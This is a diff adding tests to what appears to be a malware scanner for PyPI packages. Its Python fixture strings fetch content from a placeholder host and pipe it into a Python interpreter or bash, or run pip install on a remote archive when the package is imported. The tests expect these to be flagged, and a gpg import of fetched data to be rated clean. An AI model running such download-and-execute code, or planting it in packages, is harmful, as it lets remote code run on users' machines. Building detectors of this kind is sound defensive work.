@@ -37,6 +37,27 @@ for (const [how, body] of Object.entries(DETOURS))
     assert.equal(verdictOf("pypi", { ...info, "setup.py": setup, "demo/__init__.py": code }), "malicious");
   });
 
+for (const [how, body] of Object.entries({
+  "writes to its input":
+    "p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\np.stdin.write(r.content)\np.stdin.close()",
+  "hands over as its input": "p = subprocess.Popen('bash', stdin=subprocess.PIPE)\np.communicate(r.content)",
+}))
+  test(`a package that starts an interpreter and ${how} what it fetches is blocked`, () => {
+    const code = `import requests, subprocess, sys\nr = requests.get('https://example.invalid/a')\n${body}\n`;
+    assert.equal(verdictOf("pypi", { "demo/__init__.py": code }), "malicious");
+  });
+
+test("a program that is known gets what is fetched as data", () => {
+  const code =
+    "import requests, subprocess\ndef load():\n    r = requests.get('https://example.invalid/a')\n    p = subprocess.Popen(['gpg', '--import'], stdin=subprocess.PIPE)\n    p.communicate(r.content)\n";
+  assert.equal(verdictOf("pypi", { "demo/__init__.py": code }), "clean");
+});
+
+test("an archive at an address that importing the package installs is held", () => {
+  const code = "import os, sys\nos.system(f'{sys.executable} -m pip install https://example.invalid/a.tar.gz')\n";
+  assert.notEqual(verdictOf("pypi", { "demo/__init__.py": code }), "clean");
+});
+
 test("loops over commands that build, timers and sorts are what honest packages have", () => {
   const code =
     "import os, timeit\ndef build():\n    for c in ['make', 'make install']:\n        os.system(c)\nprint(timeit.timeit('1 + 1'), sorted(['b'], key=len))\n";
